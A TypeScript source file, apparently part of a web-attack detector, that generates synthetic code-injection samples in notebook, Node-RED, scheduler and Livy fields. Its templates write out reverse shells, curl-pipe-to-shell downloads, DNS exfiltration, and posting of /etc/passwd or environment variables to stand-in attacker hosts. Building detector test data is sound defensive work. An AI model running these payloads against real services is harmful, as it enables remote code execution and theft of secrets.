/**
 * Code in a feature field (issue 18): the exploits Warden kept missing are products' own features that run
 * code — a Zeppelin `%sh` paragraph, a Jupyter `!` cell, a Node-RED `exec` node's command, a scheduler's
 * shell task, a Livy statement, a workflow's script — reached without authentication, so the request is the
 * feature's ordinary shape with an attacker's line in the field. What the gate scores is that field's value:
 * a shell line behind a notebook magic or a shebang, or a snippet of Python, JavaScript, Groovy, Scala, R or
 * Ruby that starts a process, sometimes inside the small JSON envelope a product sends as a string (a task
 * definition in a form field, a cell list). Grammars over interpreter, spelling, command and envelope, not a
 * list of payloads; written from the feature classes, not from exploit collections.
 */
import type { AttackFamily } from './family.js';
import { attackerHost, attackerIp, attackerUrl, base64, int, maybe, pick, unixCommand, type Random } from './grammar.js';

/** What an attacker runs through the feature: a probe, a download run by a shell, a reverse shell, a lookup. */
function exploitLine(random: Random): string {
  const url = attackerUrl(random);
  const port = int(random, 1024, 65535);
  return pick(
    [
      unixCommand(random),
      unixCommand(random),
      `${pick(['curl -fsSL', 'curl -s', 'wget -q -O-', 'wget -qO-'], random)} ${url}${pick(['|sh', ' | bash', '|bash -s', ' | sh -s --'], random)}`,
      `${pick(['wget', 'curl -o /tmp/.x', 'curl -O'], random)} ${url}${maybe(random, 0.6, `${pick([';', ' && ', '\n'], random)}chmod +x /tmp/.x${pick([';', ' && ', '\n'], random)}/tmp/.x`)}`,
      `${pick(['sh', 'bash'], random)} -i >& /dev/tcp/${attackerIp(random)}/${port} 0>&1`,
      `${pick(['nc', 'ncat', 'busybox nc'], random)} ${attackerIp(random)} ${port} -e ${pick(['/bin/sh', '/bin/bash', 'sh'], random)}`,
      `rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc ${attackerIp(random)} ${port} >/tmp/f`,
      `${pick(['nslookup', 'dig', 'ping -c 1', 'host'], random)} ${pick(['', `$(whoami).`, '`id -u`.', `${int(random, 1, 9999)}.`], random)}${attackerHost(random)}`,
      `echo ${base64(unixCommand(random))}|base64 -d|${pick(['sh', 'bash'], random)}`,
      `cat /etc/passwd${pick(['', ' | head', ` > /tmp/${int(random, 1, 99)}.txt`, ` | curl -d @- ${url}`], random)}`,
      `env${pick(['', ' | curl -X POST --data-binary @- ' + url], random)}`,
      `echo ${pick(['pwned', 'ok', 'vuln', 'rce'], random)}${int(random, 0, 99999)}`,
    ],
    random,
  );
}

/** A harmless-looking line a script carries before the payload (so the payload is not always first). */
function setupLine(random: Random): string {
  return pick(['cd /tmp', 'set -e', 'export PATH=$PATH:/usr/local/bin', 'umask 022', '# run', '# setup', 'echo start', 'date'], random);
}

/** A shell line as a notebook, flow or job field holds it: a magic, a shebang, setup lines, or bare. */
function shellField(random: Random): string {
  const nl = pick(['\n', '\n', '\r\n'], random);
  const line = exploitLine(random);
  const lines = [...Array.from({ length: int(random, 0, 2) }, () => setupLine(random)), line, ...(random() < 0.2 ? [pick(['exit 0', 'true', 'echo done'], random)] : [])];
  switch (int(random, 0, 6)) {
    case 0:
      return `%sh${maybe(random, 0.2, pick(['(shell)', '.terminal'], random))}${nl}${lines.join(nl)}`;
    case 1:
      return `%%${pick(['bash', 'sh', 'script bash', 'script sh'], random)}${nl}${lines.join(nl)}`;
    case 2:
      return `!${line}`;
    case 3:
      return `#!${pick(['/bin/sh', '/bin/bash', '/usr/bin/env bash', '/usr/bin/env sh'], random)}${nl}${lines.join(nl)}`;
    case 4:
      return `${pick(['sh', 'bash', '/bin/sh', '/bin/bash'], random)} -c ${pick(['"', "'"], random)}${line.replace(/["']/g, '')}${pick(['"', "'"], random)}`;
    case 5:
      return lines.join(pick([nl, '; ', ' && '], random));
    default:
      return line;
  }
}

/** A snippet of a notebook or scripting language that starts a process running `cmd`. */
function codeField(random: Random): string {
  const cmd = exploitLine(random).replace(/["'`\\]/g, '');
  const q = pick(['"', "'"], random);
  const s = `${q}${cmd}${q}`;
  const nl = pick(['\n', '\n', '; '], random);
  const language = pick(['python', 'python', 'javascript', 'groovy', 'scala', 'r', 'ruby'] as const, random);
  switch (language) {
    case 'python':
      return pick(
        [
          `import os${nl}os.system(${s})`,
          `import os${nl}print(os.popen(${s}).read())`,
          `import subprocess${nl}subprocess.${pick(['run', 'call', 'Popen', 'check_output'], random)}(${s}, shell=True)`,
          `import subprocess${nl}print(subprocess.getoutput(${s}))`,
          `__import__(${q}os${q}).${pick(['system', 'popen'], random)}(${s})${maybe(random, 0.4, '.read()')}`,
          `import subprocess${nl}subprocess.Popen([${q}/bin/sh${q}, ${q}-c${q}, ${s}])`,
          `import pty, socket, os${nl}s=socket.socket()${nl}s.connect((${q}${attackerIp(random)}${q},${int(random, 1024, 65535)}))${nl}[os.dup2(s.fileno(),f) for f in (0,1,2)]${nl}pty.spawn(${q}/bin/sh${q})`,
        ],
        random,
      );
    case 'javascript':
      return pick(
        [
          `require(${q}child_process${q}).execSync(${s}).toString()`,
          `const { exec${pick(['', 'Sync'], random)} } = require(${q}child_process${q});${nl}exec${pick(['', 'Sync'], random)}(${s});`,
          `process.mainModule.require(${q}child_process${q}).execSync(${s})`,
          `return [{ json: { out: require(${q}child_process${q}).execSync(${s}).toString() } }];`,
          `msg.payload = global.get(${q}process${q}).mainModule.require(${q}child_process${q}).execSync(${s}).toString();${nl}return msg;`,
          `require(${q}child_process${q}).spawn(${q}sh${q}, [${q}-c${q}, ${s}])`,
        ],
        random,
      );
    case 'groovy':
      return pick([`${s}.execute().text`, `[${q}sh${q}, ${q}-c${q}, ${s}].execute()${maybe(random, 0.5, '.text')}`, `def p = Runtime.getRuntime().exec(${s})${nl}p.waitFor()`, `new ProcessBuilder(${q}sh${q}, ${q}-c${q}, ${s}).start()`, `println ${s}.execute().text`], random);
    case 'scala':
      return pick([`import sys.process._${nl}"${cmd}".!!`, `import scala.sys.process._${nl}Seq("sh", "-c", "${cmd}").!!`, `Runtime.getRuntime.exec(Array("sh", "-c", "${cmd}"))`], random);
    case 'r':
      return pick([`system("${cmd}", intern = TRUE)`, `system2("sh", c("-c", "${cmd}"), stdout = TRUE)`, `pipe("${cmd}") |> readLines()`], random);
    default:
      return pick([`\`${cmd}\``, `IO.popen(${s}).read`, `%x(${cmd})`, `system(${s})`, `Open3.capture2(${s})`], random);
  }
}

/** The envelope a product sends the field in, as a JSON string (a cell list, a flow node, a task, a statement). */
function envelope(field: string, random: Random): string {
  const key = pick(['text', 'source', 'code', 'command', 'script', 'rawScript', 'jsCode', 'func', 'paragraph'], random);
  const wrapped = pick(
    [
      { [key]: field },
      { title: pick(['', 'p1', 'run'], random), [key]: field, index: int(random, 0, 3) },
      { cells: [{ cell_type: 'code', metadata: {}, outputs: [], [key]: field }] },
      [{ id: base64(String(int(random, 1, 1e9))).slice(0, 12), type: pick(['exec', 'function', 'python3-function'], random), [key]: field, wires: [[]] }],
      { taskType: pick(['SHELL', 'PYTHON'], random), taskParams: { [key]: field, localParams: [] } },
      { kind: pick(['pyspark', 'spark', 'shell'], random), [key]: field },
      { name: pick(['main', 'job', 'step'], random), [key]: field, image: pick(['alpine', 'busybox', 'python:3'], random) },
    ],
    random,
  );
  return random() < 0.2 ? JSON.stringify(wrapped, null, 2) : JSON.stringify(wrapped);
}

function shellInFeature(random: Random): string {
  const field = shellField(random);
  return random() < 0.3 ? envelope(field, random) : field;
}

function codeInFeature(random: Random): string {
  const field = codeField(random);
  return random() < 0.3 ? envelope(field, random) : field;
}

export const FEATURE_CODE_FAMILIES: readonly AttackFamily[] = [
  { name: 'feature-shell-line', category: 'cmdexe', places: ['json', 'json-key', 'form', 'query'], make: shellInFeature },
  { name: 'feature-code-snippet', category: 'code-injection', places: ['json', 'json-key', 'form'], make: codeInFeature },
];
